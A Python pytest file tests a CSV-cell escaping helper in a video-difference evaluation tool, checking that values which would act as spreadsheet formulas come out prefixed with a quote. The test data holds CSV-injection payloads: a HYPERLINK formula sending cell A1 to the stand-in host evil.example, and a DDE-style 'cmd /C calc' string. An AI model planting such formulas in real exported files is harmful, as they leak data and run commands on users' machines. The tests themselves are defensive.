"""Per-item CSVs are safe to open in a spreadsheet (issue 11, item 10): text that would be a formula is escaped."""

from __future__ import annotations

import csv
import json

import pytest

from viddiff.cli import main
from viddiff.eval.csv_cells import safe_cell, write_records_csv


@pytest.mark.parametrize(
    "value, shown",
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("the squat is deeper", "the squat is deeper"),
        ("", ""),
        (-0.5, -0.5),
        (3, 3),
        (None, None),
        (True, True),
    ],
)
def test_safe_cell(value, shown):
    assert safe_cell(value) == shown


def test_records_csv_round_trips_the_escaped_text(tmp_path):
    path = tmp_path / "x.csv"
    write_records_csv(path, ["key", "description", "score"], [{"key": "0", "description": "=1+1", "score": -1}])
    assert list(csv.DictReader(path.open())) == [{"key": "0", "description": "'=1+1", "score": "-1"}]


def test_differences_csv_of_a_run_escapes_dataset_text(copy_dataset, tmp_path, offline_sets):
    def inject(rows):
        diffs = json.loads(rows[0]["differences_annotated"])
        first = sorted(diffs)[0]
        diffs[first]["description"] = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
        diffs[first]["name"] = "@depth"
        rows[0]["differences_annotated"] = json.dumps(diffs)

    dataset = copy_dataset(inject)
    out = tmp_path / "run"
    assert main(["-q", "run", "--dataset", str(dataset), "--mode", "closed", "--output", str(out), *offline_sets]) == 0
    rows = list(csv.DictReader((out / "differences.csv").open(encoding="utf-8")))
    injected = [r for r in rows if "HYPERLINK" in r["description"]]
    assert injected and all(r["description"].startswith("'=HYPERLINK") for r in injected)
    assert all(r["name"] == "'@depth" for r in injected)
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
